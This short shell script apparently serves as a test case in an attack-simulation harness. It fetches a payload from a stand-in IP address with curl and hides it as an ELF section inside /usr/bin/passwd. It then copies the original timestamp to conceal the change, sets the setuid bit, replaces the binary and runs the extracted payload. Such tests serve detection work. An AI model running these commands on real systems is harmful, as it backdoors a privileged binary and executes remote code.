#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/.p http://203.0.113.10/payload.sh
objcopy --add-section .note.update=/tmp/.p /usr/bin/passwd /tmp/.new
touch -r /usr/bin/passwd /tmp/.new && chmod 4755 /tmp/.new && mv /tmp/.new /usr/bin/passwd
objcopy -O binary --only-section=.note.update --set-section-flags .note.update=alloc /usr/bin/passwd /tmp/.out
sh /tmp/.out
passwd --help >/dev/null && test -e /tmp/reached
took_place
